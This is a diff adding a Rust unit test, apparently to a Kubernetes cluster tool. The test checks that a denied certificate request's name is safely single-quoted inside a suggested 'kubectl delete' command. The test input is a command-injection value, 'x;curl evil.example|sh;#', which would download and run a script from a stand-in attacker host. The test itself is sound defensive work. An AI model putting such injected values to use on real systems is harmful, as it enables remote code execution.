@@ -473,6 +473,13 @@ mod tests {
     }
 
     #[test]
+    fn the_name_of_a_denied_request_is_a_word_of_the_command() {
+        let denied = Request { name: "x;curl evil.example|sh;#".to_owned(), ..request(Some("Denied")) };
+        let because = link(&known(cluster(true, &[]), vec![denied]), Goal::Available).1;
+        assert!(because.ends_with(": kubectl delete 'csr/x;curl evil.example|sh;#'"), "{because}");
+    }
+
+    #[test]
     fn the_hub_is_right_when_its_lease_is_fresh() {
         let conditions = [("ManagedClusterJoined", "True"), ("ManagedClusterConditionAvailable", "True")];
         let lease = |age: i64| {
